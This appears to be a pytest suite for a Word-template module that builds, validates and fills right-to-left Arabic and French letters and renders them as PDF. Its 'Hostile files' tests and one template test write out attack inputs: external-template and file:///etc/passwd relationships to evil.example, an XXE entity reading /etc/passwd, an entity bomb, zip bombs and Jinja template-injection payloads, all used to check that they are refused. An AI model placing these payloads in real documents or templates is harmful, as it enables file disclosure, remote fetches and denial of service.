"""Real Word documents, read by python-docx: made, looked at, filled, set as PDF; hostile ones too."""

import gc
import io
import random
import re
import time
import zipfile
from datetime import UTC, datetime

import pytest
from django.utils import translation
from docx import Document
from docx.oxml.ns import qn
from docx.shared import Mm
from PIL import Image
from pypdf import PdfReader

from tansiq.core import docx
from tansiq.core.docx import BadDocument, CannotMerge, build, check, merge, text_of, to_pdf
from tansiq.core.pdf import Unprintable
from tansiq.core.word import pieces

NOW = datetime(2026, 5, 4, 9, 30, tzinfo=UTC)
LRM, NBSP = "\u200e", "\u00a0"
PHONE = LRM + "+212 5 37 00 00 00".replace(" ", NBSP)
KNOWN = ["date", "to.name", "to.organisation", "body", "rows.name", "rows.day"]
LETTER = [
    {"kind": "paragraph", "text": "الرباط، في {{ date }}", "align": "end"},
    {"kind": "heading", "text": "دعوة إلى ورشة UNODC"},
    {"kind": "paragraph", "text": "السيد(ة) {{ to.name }}، {{ to.organisation }}", "bold": True},
    {"kind": "paragraph", "text": "{{ body }}", "align": "justify"},
    {"kind": "table", "rows": [["النشاط", "التاريخ"], ["ورشة", "04/05/2026"]], "header": True, "widths": [3, 1]},
]
VALUES = {
    "date": "4 ماي 2026",
    "to": {"name": "فاطمة الزهراء بنعلي", "organisation": "وزارة العدل"},
    "body": "نص أول.",
    "rows": [],
}
CONTENT = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@pytest.fixture(autouse=True)
def _in_english():
    with translation.override("en"):
        yield


def letter(*texts, language="ar", **more):
    return build(
        [{"kind": "paragraph", "text": text} for text in texts] if texts else LETTER, language=language, **more
    )


def read(content):
    return Document(io.BytesIO(content))


def runs(paragraph):
    """[(text, it is right-to-left)] of a paragraph, those of one direction together."""
    found = []
    for run in paragraph.runs:
        is_rtl = run._r.rPr is not None and run._r.rPr.find(qn("w:rtl")) is not None
        if found and found[-1][1] == is_rtl:
            found[-1] = (found[-1][0] + run.text, is_rtl)
        else:
            found.append((run.text, is_rtl))
    return found


def rebuilt(content, members):
    """The document with members replaced (by bytes, or what a function makes of them), added, or (None) taken out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as good:
        contents = {name: good.read(name) for name in good.namelist()}
    for name, change in members.items():
        contents[name] = change(contents[name]) if callable(change) else change
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in contents.items():
            if data is not None:
                packed.writestr(name, data)
    return out.getvalue()


def in_document(old, new):
    def change(xml):
        assert old.encode() in xml
        return xml.replace(old.encode(), new.encode(), 1)

    return {"word/document.xml": change}


def png(colour="navy"):
    out = io.BytesIO()
    Image.new("RGB", (30, 20), colour).save(out, "PNG")
    return out.getvalue()


# Making


def test_arabic_is_right_to_left_in_every_place_that_word_looks_at():
    document = read(letter(footer="الرباط", title="دعوة", letterhead=["المملكة المغربية"]))
    assert document.sections[0]._sectPr.find(qn("w:bidi")) is not None
    footer = document.sections[0].footer.paragraphs
    cells = [cell.paragraphs[0] for row in document.tables[0].rows for cell in row.cells]
    for paragraph in [*document.paragraphs, *cells, *footer]:
        assert paragraph._p.pPr.find(qn("w:bidi")) is not None
    assert document.tables[0]._tbl.tblPr.find(qn("w:bidiVisual")) is not None
    assert document.tables[0].rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    for name in ("Normal", "Heading 1", "Heading 2", "Heading 3"):
        fonts = document.styles[name].element.rPr.rFonts
        assert {side: fonts.get(qn(f"w:{side}")) for side in ("ascii", "hAnsi", "cs")} == dict.fromkeys(
            ("ascii", "hAnsi", "cs"), "FiraGO"
        )
        assert fonts.get(qn("w:cstheme")) is None
        assert document.styles[name].element.rPr.find(qn("w:szCs")) is not None
    assert document.styles["Normal"].element.rPr.find(qn("w:lang")).get(qn("w:bidi")) == "ar-MA"
    assert document.core_properties.title == "دعوة"
    assert round(document.sections[0].page_width / Mm(1)) == 210


def test_french_has_no_mark_of_right_to_left():
    content = build([{"kind": "paragraph", "text": "Réunion"}, {"kind": "table", "rows": [["a"]]}], language="fr")
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        assert not re.search(rb"<w:(bidi|rtl|bidiVisual)/>", packed.read("word/document.xml"))


def test_latin_words_in_arabic_get_runs_of_their_own_and_placeholders_stay_whole():
    document = read(letter())
    heading, addressee = document.paragraphs[1:3]
    assert runs(heading) == [("دعوة إلى ورشة ", True), ("UNODC", False)]
    assert "{{ to.name }}" in [run.text for run in addressee.runs]
    assert "{{ to.organisation }}" in [run.text for run in addressee.runs]
    for run in addressee.runs:
        assert run._r.rPr.find(qn("w:b")) is not None
        assert run._r.rPr.find(qn("w:bCs")) is not None


@pytest.mark.parametrize(
    ("text", "is_rtl", "expected"),
    [
        ("مرحبا UNODC.", True, [("مرحبا ", True), ("UNODC", False), (".", True)]),
        ("مكتب (Blue Heart) بالرباط", True, [("مكتب (", True), ("Blue Heart", False), (") بالرباط", True)]),
        ("الهاتف +212 5 37 00 00 00.", True, [("الهاتف ", True), (PHONE, False), (".", True)]),
        ("في 04/05/2026 10:30", True, [("في ", True), ("04/05/2026", False), (" ", True), ("10:30", False)]),
        ("نسبة 20%، 15 000 درهم", True,
         [("نسبة ", True), ("20%", False), ("، ", True), (f"{LRM}15{NBSP}000", False), (" درهم", True)]),
        ("Devise : الله، الوطن, 2026.", False, [("Devise : ", False), ("الله، الوطن", True), (f", {LRM}2026.", False)]),
        ("Voir المادة 5 من القانون.", False, [("Voir ", False), ("المادة 5 من القانون", True), (".", False)]),
        ("UNODC 2026 هنا", True, [("UNODC 2026", False), (" هنا", True)]),
        ("...", True, [("...", True)]),
        ("", True, []),
    ],
)  # fmt: skip
def test_a_text_is_split_by_script_with_what_stands_between(text, is_rtl, expected):
    assert pieces(text, is_rtl=is_rtl) == expected


def test_splitting_takes_time_in_proportion_to_the_length():
    def spent(times):
        begun = time.process_time()
        pieces(". ,؛" * times, is_rtl=True)
        pieces("1 " * times + "1.1" * times, is_rtl=True)
        return time.process_time() - begun

    gc.disable()  # what it costs to look through the objects of all other tests is not the point
    try:
        assert spent(80_000) < 8 * spent(20_000)  # in proportion it is 4, with the square 16
    finally:
        gc.enable()


def test_page_numbers_are_fields_after_a_mark_that_keeps_them_left_to_right():
    footer = read(letter()).sections[0].footer.paragraphs[-1]
    assert footer.text == f"{LRM}1 / 1"
    assert [code.text for code in footer._p.iter(qn("w:instrText"))] == [" PAGE ", " NUMPAGES "]
    assert footer._p.find(f".//{qn('w:rtl')}") is None


def test_logos_stand_in_their_order_whatever_their_format():
    webp = io.BytesIO()
    Image.new("RGB", (20, 20), "red").save(webp, "WEBP")
    document = read(letter(logos=[png(), webp.getvalue()]))
    assert len(document.inline_shapes) == 2
    assert len(document.paragraphs[0]._p.findall(f".//{qn('w:drawing')}")) == 2


def test_a_block_of_no_known_kind_is_the_callers_mistake():
    with pytest.raises(ValueError, match="chart"):
        build([{"kind": "chart"}], language="ar")


# Looking at templates


def test_what_we_build_is_a_template_without_a_fault():
    assert check(letter(footer="{{ date }}", logos=[png()]), KNOWN) == []


def test_an_unknown_field_is_named_with_the_nearest_known_wherever_it_stands():
    assert check(letter("{{ to.nom }}", footer="{{ dates }}"), KNOWN) == [
        "The template asks for “dates”, which is not known. Did you mean date?",
        "The template asks for “to.nom”, which is not known. Did you mean to.name, rows.name?",
    ]
    assert check(letter("{{ zzzz }}"), ["date"]) == [
        "The template asks for “zzzz”, which is not known. Known are: date."
    ]


def test_a_placeholder_that_word_split_over_runs_is_seen_and_filled():
    split = '{{ to.</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t>na</w:t></w:r><w:r><w:t>me }}'
    content = rebuilt(letter("{{ to.name }}"), in_document("{{ to.name }}", split))
    assert check(content, ["to.nam"]) == ["The template asks for “to.name”, which is not known. Did you mean to.nam?"]
    assert text_of(merge(content, VALUES)).splitlines()[0] == VALUES["to"]["name"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{{ to.name", "“{{ to.name” is not a whole placeholder. Write it as {{ name }} within one paragraph."),
        ("to.name }}", "“to.name }}” is not a whole placeholder. Write it as {{ name }} within one paragraph."),
        ("{{ to name }}", "The template cannot be read at “{{ to name }}” (a sign or an end is missing"),
        ("{{ to. }}", "The template cannot be read at “{{ to. }}”"),
        ("{% if date %}نعم", "The template cannot be read at “{% if date %}”"),
        ("{{ date|frame }}", "The template cannot be read at “{{ date|frame }}”"),
        ("{{p date }}", "“{{p date }}” is not a placeholder that is filled here. Write it as {{ name }}."),
        ("{% colspan date %}", "“{% colspan date %}” is not a placeholder that is filled here."),
        ("{{ date" + "|upper" * 60 + " }}", "“{{ date|upper|upper"),
        ("{% if date %}" * 30 + "{% endif %}" * 30, "The template cannot be read at “{% if date %}"),
        ("{# ملاحظة #}", "“{# ملاحظة #}” is not a whole placeholder."),
    ],
)
def test_a_broken_placeholder_is_shown_as_it_stands(text, said):
    [fault] = check(letter("سطر", text, "سطر"), KNOWN)
    assert fault.startswith(said)


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ to.__class__ }}",
        "{{ to['__class__'] }}",
        "{% for x in range(10**9) %}a{% endfor %}",
        "{% for x in 'aaaa' %}a{% endfor %}",
        "{% for a in rows %}{% for b in rows %}{% for c in rows %}a{% endfor %}{% endfor %}{% endfor %}",
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% extends 'x' %}",
        "{% set x = 1 %}",
        "{% macro x() %}{% endmacro %}",
        "{% filter upper %}a{% endfilter %}",
        "{{ date() }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 999999 }}",
        "{{ [1, 2] }}",
        "{{ loop.cycle }}",
        "{{ self }}{{ caller() }}",
    ],
)
def test_nothing_but_fields_conditions_and_lists_of_fields_is_let_in(text):
    content = letter(text)
    begun = time.process_time()
    assert check(content, KNOWN) != []
    with pytest.raises((BadDocument, CannotMerge)):
        merge(content, VALUES)
    assert time.process_time() - begun < 2


def test_a_condition_that_does_not_end_where_it_begins_is_refused_and_one_of_whole_paragraphs_is_filled():
    crossing = [{"kind": "paragraph", "text": "{% if date %}"}, {"kind": "table", "rows": [["{% endif %}"]]}]
    [fault] = check(build(crossing, language="ar"), KNOWN)
    assert fault.startswith("A condition or loop of the template does not end where it begins.")
    whole = letter("قبل", "{%p if to.organisation %}", "إلى {{ to.organisation }}", "{%p endif %}", "بعد")
    assert check(whole, KNOWN) == []
    assert text_of(merge(whole, VALUES)).splitlines()[:3] == ["قبل", "إلى وزارة العدل", "بعد"]
    without = {**VALUES, "to": {"name": "", "organisation": ""}}
    assert text_of(merge(whole, without)).splitlines()[:2] == ["قبل", "بعد"]


def test_rows_of_a_table_are_repeated_for_a_list():
    rows = [
        ["الاسم", "اليوم"],
        ["{%tr for row in rows %}", ""],
        ["{{ row.name }}", "{{ row.day }}"],
        ["{%tr endfor %}", ""],
    ]
    content = build([{"kind": "table", "rows": rows, "header": True}], language="ar")
    assert check(content, KNOWN) == []
    assert check(content, ["rows.name"]) == [
        "The template asks for “rows.day”, which is not known. Did you mean rows.name?"
    ]
    filled = read(merge(content, {"rows": [{"name": "ورشة", "day": "الأحد"}, {"name": "UNODC", "day": "الاثنين"}]}))
    assert [[cell.text for cell in row.cells] for row in filled.tables[0].rows] == [
        ["الاسم", "اليوم"],
        ["ورشة", "الأحد"],
        ["UNODC", "الاثنين"],
    ]


# Hostile files


def relation(target, kind="attachedTemplate", mode=' TargetMode="External"'):
    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return {
        "word/_rels/document.xml.rels": lambda xml: xml.replace(
            b"</Relationships>",
            f'<Relationship Id="x1" Type="{kind}" Target="{target}"{mode}/></Relationships>'.encode(),
        )
    }


def macro(xml):
    return xml.replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.template.macroEnabledTemplate.main+xml"
    )


@pytest.mark.parametrize(
    ("members", "said"),
    [
        ({"word/vbaProject.bin": b"x"}, "This document holds macros."),
        (
            {"[Content_Types].xml": lambda xml: macro(xml).replace(b"wordprocessingml", b"ms-word")},
            "This document holds macros.",
        ),
        (
            relation("https://evil.example/t.dotm"),
            "This document fetches “https://evil.example/t.dotm” (attachedTemplate)",
        ),
        (relation("https://evil.example/a.png", "image"), "This document fetches “https://evil.example/a.png” (image)"),
        (relation("file:///etc/passwd", "hyperlink"), "This document fetches “file:///etc/passwd” (hyperlink)"),
        (relation("x.html", "aFChunk", ""), "This document holds another document inside."),
        (
            in_document("<w:r>", '<w:r><w:instrText>INCLUDEPICTURE "http://evil.example/"</w:instrText></w:r><w:r>'),
            "This document has the field “INCLUDEPICTURE",
        ),
        (
            in_document("<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document'),
            "This document declares XML entities",
        ),
        (in_document("</w:body>", ""), "This file is damaged"),
        (
            in_document("<w:p>", "".join(f'<w:p w:rsidR="{n * 7919:08X}"/>' for n in range(50_000)) + "<w:p>"),
            "This document is too long",
        ),
        ({"word/document.xml": b"<a/>"}, "This is not a Word document."),
        ({"word/document.xml": None}, "This is not a Word document."),
        ({"word/document.xml": b" " * 100_000_000}, "This document is far larger unpacked than it looks"),
        ({"word/media/a.bin": b"\0" * 3_000_000}, "This document is far larger unpacked than it looks"),
        ({f"word/{n}.xml": b"<a/>" for n in range(600)}, "This document is far larger unpacked than it looks"),
        ({"word/../../x": b""}, "This file is damaged"),
    ],
)
def test_a_hostile_document_is_refused_by_what_is_wrong_with_it(members, said):
    content = rebuilt(letter(), members)
    assert any(fault.startswith(said) for fault in check(content, KNOWN)), check(content, KNOWN)
    for use in (text_of, lambda c: merge(c, VALUES), lambda c: to_pdf(c, language="ar", title="وثيقة", now=NOW)):
        with pytest.raises(BadDocument):
            use(content)


def test_a_link_that_a_reader_may_follow_is_no_fault():
    for target in ("https://www.unodc.org/", "mailto:a@example.org", "tel:+212537000000"):
        assert check(rebuilt(letter(), relation(target, "hyperlink")), KNOWN) == []


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "This is not a Word document. Save it as .docx and send it again."),
        ("نص عادي".encode(), "This is not a Word document. Save it as .docx and send it again."),
        (b"PK\x03\x04 not a zip", "This file is damaged and cannot be read."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "This document has a password or is of the old .doc kind."),
        (b"PK" + bytes(5_000_001), "This document has 5.0 MB; at most 5.0 MB are taken."),
    ],
)
def test_a_file_that_is_no_word_document_is_refused_by_what_it_is(content, said):
    [fault] = check(content, KNOWN)
    assert fault.startswith(said)


def test_a_truncated_document_is_refused():
    content = letter()
    for share in (0.1, 0.5, 0.9, 0.99):
        [fault] = check(content[: int(len(content) * share)], KNOWN)
        assert fault.startswith("This file is damaged")


def test_an_xml_entity_reads_no_file_and_a_bomb_of_entities_does_not_go_off():
    bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "x" * 10}">' for n in range(12))
    for declared in (bomb, '<!ENTITY e11 SYSTEM "file:///etc/passwd">'):
        content = rebuilt(
            letter("XX"),
            {
                "word/document.xml": lambda xml, declared=declared: re.sub(
                    rb"<w:document", f"<!DOCTYPE x [{declared}]><w:document".encode(), xml, count=1
                ).replace(b"XX", b"&e11;")
            },
        )
        assert check(content, KNOWN) != []


def test_many_placeholders_and_a_long_text_are_looked_at_in_seconds():
    begun = time.process_time()
    [fault] = check(letter("{{ date }} " * 501), KNOWN)
    assert fault == "The template has 501 placeholders; at most 500 are filled."
    chosen = random.Random(1)
    long = [" ".join("".join(chosen.choices("ابتثجحخدرس", k=6)) for _word in range(20)) for _line in range(3000)]
    assert check(letter(*long, "{{ date }}"), KNOWN) == []
    assert check(letter("{{ " * 400), KNOWN) != []
    assert check(letter("{" * 100_000), KNOWN) != []
    assert time.process_time() - begun < 20


# Filling


def test_a_value_with_signs_of_xml_and_of_templates_comes_out_as_written():
    value = "أ & ب <w:p> \"ج\" 'د' {{ date }} {% if %} {_{ &amp;"
    assert text_of(merge(letter("{{ date }}"), {"date": value})).splitlines()[0] == value


def test_line_breaks_stay_and_blank_lines_begin_paragraphs_of_the_same_style_and_direction():
    content = build(
        [{"kind": "paragraph", "text": "قبل: {{ body }} :بعد", "align": "justify", "bold": True}], language="ar"
    )
    filled = read(merge(content, {"body": "أول\nسطر ثان\n\nثان UNODC\n \n\nثالث"}))
    texts = [paragraph.text for paragraph in filled.paragraphs]
    assert texts == ["قبل: أول\nسطر ثان", "ثان UNODC", "ثالث :بعد"]
    properties = {str(paragraph._p.pPr.xml) for paragraph in filled.paragraphs}
    assert len(properties) == 1
    assert "<w:bidi/>" in properties.pop()
    assert all(run.bold for paragraph in filled.paragraphs for run in paragraph.runs if run.text.strip())
    assert runs(filled.paragraphs[1]) == [("ثان ", True), ("UNODC", False)]


def test_several_paragraphs_in_a_table_cell_and_in_a_footer_stay_there():
    content = build([{"kind": "table", "rows": [["{{ body }}"]]}], language="ar", footer="{{ body }}")
    filled = read(merge(content, {"body": "أ\n\nب"}))
    assert [paragraph.text for paragraph in filled.tables[0].rows[0].cells[0].paragraphs] == ["أ", "ب"]
    assert [paragraph.text for paragraph in filled.sections[0].footer.paragraphs][:2] == ["أ", "ب"]


def test_a_latin_value_in_arabic_and_an_arabic_value_in_french_get_their_own_runs():
    arabic = read(merge(letter("إلى {{ to.name }}:"), {"to": {"name": "Nadia BENALI (فرع GIZ) +212 5 37 00 00 00"}}))
    assert runs(arabic.paragraphs[0]) == [
        ("إلى ", True),
        ("Nadia BENALI", False),
        (" (فرع ", True),
        ("GIZ", False),
        (") ", True),
        (PHONE, False),
        (":", True),
    ]
    french = read(merge(letter("À {{ to.name }}, merci", language="fr"), {"to": {"name": "فاطمة بنعلي"}}))
    assert runs(french.paragraphs[0]) == [("À ", False), ("فاطمة بنعلي", True), (", merci", False)]


def test_an_arabic_value_is_bold_where_the_placeholder_was_bold_for_latin_only():
    content = rebuilt(
        letter("{{ date }}", language="fr"),
        {
            "word/document.xml": lambda xml: re.sub(
                rb"<w:r>(?:<w:rPr/>)?<w:t>\{\{", b'<w:r><w:rPr><w:b/><w:sz w:val="40"/></w:rPr><w:t>{{', xml
            )
        },
    )
    [run] = read(merge(content, {"date": "الأحد"})).paragraphs[0].runs
    assert [child.tag.split("}")[1] for child in run._r.rPr] == ["b", "bCs", "sz", "szCs", "rtl"]
    assert run._r.rPr.find(qn("w:szCs")).get(qn("w:val")) == "40"


def test_an_empty_value_leaves_an_empty_paragraph_and_none_is_empty():
    filled = read(merge(letter("{{ date }}", "نص"), {"date": None}))
    assert [paragraph.text for paragraph in filled.paragraphs] == ["", "نص"]


def test_a_missing_value_is_refused_by_the_name_of_its_field():
    with pytest.raises(CannotMerge) as refused:
        merge(letter(), {"date": "اليوم", "to": {"organisation": "وزارة العدل"}})
    assert refused.value.fields == ["body", "to.name"]
    assert str(refused.value) == (
        "The document was not made: the template asks for “body”, “to.name”, and there is no text for it. "
        "Fill it in first."
    )


def test_a_record_where_a_text_belongs_is_refused_and_never_shown_as_python():
    for values in ({"date": {"a": 1}}, {"date": ["a"]}):
        with pytest.raises(CannotMerge, match="“date”"):
            merge(letter("{{ date }}"), values)
    with pytest.raises(CannotMerge):
        merge(letter("{{ to.items }}"), {"to": {"name": "x"}})


def test_a_value_has_no_attributes_that_a_template_could_reach():
    class Person:
        name = "سر"

    with pytest.raises(CannotMerge):
        merge(letter("{{ to.name }}"), {"to": Person()})


def test_control_characters_in_a_value_do_not_break_the_document():
    filled = merge(letter("{{ date }}"), {"date": "أ\x00\x0b\x1f\ue000ب\uffff\ud800ج\tد"})
    assert text_of(filled).splitlines()[:2] == ["أ", "بج\tد"]


def test_filters_and_defaults_work():
    content = letter(
        "{{ to.name|upper }} {{ date|default('—') }} {% if to.organisation == 'x' %}أ{% else %}ب{% endif %}"
    )
    assert check(content, KNOWN) == []
    assert text_of(merge(content, {"to": {"name": "nadia", "organisation": "y"}})).splitlines()[0] == "NADIA — ب"


def test_everything_else_of_the_template_stays_byte_for_byte():
    content = letter(logos=[png()])
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(io.BytesIO(merge(content, VALUES))) as after:
        assert sorted(before.namelist()) == sorted(after.namelist())
        changed = {name for name in before.namelist() if before.read(name) != after.read(name)}
    assert changed == {"word/document.xml"}


@pytest.mark.slow
def test_five_hundred_letters_are_filled_in_seconds():
    content = letter(logos=[png()])
    begun = time.process_time()
    for number in range(500):
        merge(content, {**VALUES, "date": str(number)})
    assert time.process_time() - begun < 10


# PDF


def pdf_of(content, language="ar"):
    return PdfReader(io.BytesIO(to_pdf(content, language=language, title="دعوة", now=NOW)))


def test_a_filled_letter_becomes_an_accessible_pdf_with_all_its_words():
    values = {**VALUES, "body": "Atelier du 4 mai.\n\nAppelez le +212 5 37 00 00 00.\nMerci & <bien>."}
    french = build(
        [
            {"kind": "heading", "text": "Invitation"},
            {"kind": "paragraph", "text": "{{ body }}", "align": "justify"},
            {"kind": "table", "rows": [["Jour", "Lieu"], ["lundi", "Rabat"]], "header": True},
            {"kind": "page_break"},
            {"kind": "paragraph", "text": "Annexe", "align": "center"},
        ],
        language="fr", letterhead=["Royaume du Maroc"], logos=[png()], footer="Commission",
    )  # fmt: skip
    document = pdf_of(merge(french, values), "fr")
    first, second = (page.extract_text() for page in document.pages)
    for word in (
        "Royaume du Maroc",
        "Invitation",
        "Atelier du 4 mai.",
        "+212 5 37 00 00 00",
        "Merci & <bien>.",
        "Rabat",
    ):
        assert word in first.replace(NBSP, " ")
    assert "Commission" in first
    assert "1 / 2" in first
    assert "Annexe" in second
    assert "2 / 2" in second
    assert document.trailer["/Root"]["/MarkInfo"]["/Marked"]
    assert len(document.pages[0].images) == 1


def test_arabic_starts_at_the_right_and_the_date_aligned_to_the_end_stands_at_the_left():
    places = {}
    document = pdf_of(build([{"kind": "paragraph", "text": "111"}, {"kind": "paragraph", "text": "222", "align": "end"},
                             {"kind": "paragraph", "text": "333", "align": "center"}], language="ar"))  # fmt: skip

    def note(text, transformation, matrix, _font, _size):
        if text.strip():
            places[text.strip()] = transformation[4] + matrix[4]

    document.pages[0].extract_text(visitor_text=note)
    assert places["222"] < 100 < places["333"] < 400 < places["111"]


def test_what_is_not_a_paragraph_is_kept_as_text_or_left_out_without_a_fault():
    strange = (
        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        '<mc:Choice Requires="wps"><w:drawing><w:txbxContent><w:p><w:r><w:t>Boxed</w:t></w:r></w:p></w:txbxContent>'
        "</w:drawing></mc:Choice><mc:Fallback><w:pict><w:txbxContent><w:p><w:r><w:t>Boxed</w:t></w:r></w:p>"
        "</w:txbxContent></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
        "<w:sdt><w:sdtContent><w:p><w:r><w:t>Control</w:t></w:r></w:p></w:sdtContent></w:sdt>"
        "<w:p><w:ins><w:r><w:t>Added</w:t></w:r></w:ins><w:del><w:r><w:delText>Gone</w:delText></w:r></w:del></w:p>"
        "<w:p><w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='99'/></w:numPr><w:jc w:val='odd'/></w:pPr></w:p>"
        "<w:p><w:r><w:rPr><w:sz w:val='x'/><w:color w:val='auto'/></w:rPr><w:t>Odd</w:t><w:object/></w:r></w:p>"
        "<w:tbl><w:tr/></w:tbl><w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='2'/></w:tcPr><w:p/></w:tc></w:tr>"
        "<w:tr><w:tc><w:tcPr><w:vMerge w:val='restart'/></w:tcPr><w:p><w:r><w:t>Tall</w:t></w:r></w:p></w:tc><w:tc><w:p/></w:tc></w:tr>"
        "<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>"
    )
    content = rebuilt(letter("XX", language="fr"), in_document("<w:p>", strange + "<w:p>"))
    words = pdf_of(content, "fr").pages[0].extract_text()
    assert re.findall("Boxed|Control|Added|Gone|Odd|Tall|XX", words) == [
        "Boxed",
        "Control",
        "Added",
        "Odd",
        "Tall",
        "XX",
    ]
    assert text_of(content).splitlines()[:6] == ["Boxed", "Control", "Added", "Odd", "Tall", "XX"]


def test_tables_in_tables_are_kept_without_end_to_the_depth():
    deep = "<w:tbl><w:tr><w:tc>" * 60 + "<w:p><w:r><w:t>inner</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 60
    content = rebuilt(letter("XX", language="fr"), in_document("<w:p>", deep + "<w:p>"))
    assert "inner" in pdf_of(content, "fr").pages[0].extract_text()


def test_a_tall_header_pushes_the_text_down():
    made = Document()
    made.add_paragraph("Corps")
    for number in range(12):
        made.sections[0].header.add_paragraph(f"Ligne {number}")
    out = io.BytesIO()
    made.save(out)
    lines = [line for line in pdf_of(out.getvalue(), "fr").pages[0].extract_text().splitlines() if line.strip()]
    assert lines[-1].strip() == "Corps"
    assert len(lines) == 13


def test_a_sign_without_a_print_letter_is_refused_by_its_name():
    with pytest.raises(Unprintable, match="U\\+1F600"):
        pdf_of(letter("مرحبا 😀"))


def test_lists_are_numbered_and_a_picture_that_nobody_can_show_is_left_out():
    made = Document()
    for text in ("premier", "second"):
        made.add_paragraph(text, style="List Number")
    made.add_paragraph("point", style="List Bullet")
    made.add_picture(io.BytesIO(png()))
    out = io.BytesIO()
    made.save(out)
    broken = rebuilt(out.getvalue(), {"word/media/image1.png": b"\x01\x00EMF"})
    for content, pictures in ((out.getvalue(), 1), (broken, 0)):
        page = pdf_of(content, "fr").pages[0]
        assert re.sub(r"\s+", " ", page.extract_text()).strip() == "1. premier 2. second • point"
        assert len(page.images) == pictures


def test_words_are_read_in_order_without_marks_of_direction():
    content = letter("الهاتف +212 5 37 00 00 00", "{{ date }}", footer="تذييل")
    assert text_of(content) == "الهاتف +212 5 37 00 00 00\n{{ date }}\nتذييل\n1 / 1"


def test_the_functions_of_the_module_are_those_it_names():
    assert {name for name in docx.__all__ if not name[0].isupper()} == {"build", "check", "merge", "text_of", "to_pdf"}
